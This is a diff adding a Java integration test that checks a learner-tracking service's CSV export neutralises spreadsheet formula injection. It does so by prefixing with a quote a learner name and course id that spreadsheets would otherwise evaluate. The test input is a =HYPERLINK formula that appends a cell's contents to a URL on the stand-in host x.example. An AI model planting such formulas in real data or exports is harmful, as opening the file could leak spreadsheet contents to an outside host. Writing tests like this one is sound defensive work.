@@ -108,4 +108,34 @@ class PendingListIT extends LogToHttp {
         assertThat(service.get(PENDING + "?with=some").body()).contains("some").contains("under-three");
         assertThat(service.get("/v1/departments/HOMES/pending").statusCode()).isEqualTo(400);
     }
+
+    /** A name that a spreadsheet would run: the whole of a list could be sent away by opening it. */
+    @Test
+    @Order(5)
+    void aNameLikeAFormulaIsTextInATableAndAsItCameInJson() throws Exception {
+        String formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
+        push(
+                Records.of(
+                        "learner.onboarded",
+                        "@UP-formula",
+                        "of",
+                        "{\"department\":\"HOME\",\"district\":\"AGRA\",\"category\":\"officer\",\"name\":\""
+                                + formula.replace("\"", "\\\"") + "\"}"),
+                Records.of("course.enrolled", "@UP-formula", "ef", "{\"courseId\":\"-course/7,a/\"}"));
+        settled("/v1/metrics/summary");
+
+        JsonNode person =
+                service.json("/v1/departments/HOME/pending").get("items").get(0);
+        assertThat(person.get("learnerId").asString()).isEqualTo("@UP-formula");
+        assertThat(person.get("name").asString()).isEqualTo(formula);
+        assertThat(person.at("/inProgress/0").asString()).isEqualTo("-course/7,a/");
+        String table = service.get("/v1/departments/HOME/pending", service.reader(), "Accept", "text/csv")
+                .body();
+        assertThat(table.lines().toList().get(1))
+                .isEqualTo(
+                        "'@UP-formula,\"'" + formula.replace("\"", "\"\"") + "\",AGRA,officer,0,3,\"'-course/7,a/\"");
+        String courses = service.get("/v1/metrics/courses", service.reader(), "Accept", "text/csv")
+                .body();
+        assertThat(courses).contains("\n\"'-course/7,a/\",1,0,0,0.0,0.0");
+    }
 }
